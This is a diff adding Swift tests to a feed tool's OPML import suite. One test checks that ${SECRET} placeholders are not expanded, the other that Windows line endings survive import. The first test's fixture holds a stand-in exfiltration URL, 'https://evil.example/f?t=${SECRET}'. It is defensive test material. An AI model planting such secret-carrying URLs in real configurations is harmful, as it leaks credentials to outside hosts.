@@ -53,6 +53,31 @@ import Testing
         #expect(try program.run("import", "mine.opml").output.hasSuffix("5 there already\n"))
     }
 
+    @Test func `reads no variable of the environment`() throws {
+        let list = """
+            <opml version="2.0"><body>
+            <outline title="Tin ${SECRET}" xmlUrl="https://evil.example/f?t=${SECRET}"/>
+            </body></opml>
+            """
+        try program.write(list, to: "mine.opml")
+        #expect(try program.run("import", "mine.opml").status == 0)
+        #expect(try !program.read("Config/sources.yaml").contains("${"))
+        let secret = ["SECRET": "s3cr3t"]
+        let status = try program.run("status", "--format", "json", environment: secret)
+        #expect(status.status == 0)
+        #expect(!status.output.contains("s3cr3t"))
+    }
+
+    @Test func `is added to a file with line ends of Windows`() throws {
+        let text = Self.configuration.replacing("\n", with: "\r\n")
+        try program.write(text, to: "Config/sources.yaml")
+        try program.write(Self.list, to: "mine.opml")
+        #expect(try program.run("import", "mine.opml").status == 0)
+        let written = try program.read("Config/sources.yaml").unicodeScalars
+        #expect(written.count { $0 == "\n" } == written.count { $0 == "\r" })
+        #expect(try program.run("check").output.hasPrefix("5 sources"))
+    }
+
     @Test func `is the same when it is exported and imported again`() throws {
         try program.write(Self.list, to: "mine.opml")
         _ = try program.run("import", "mine.opml")
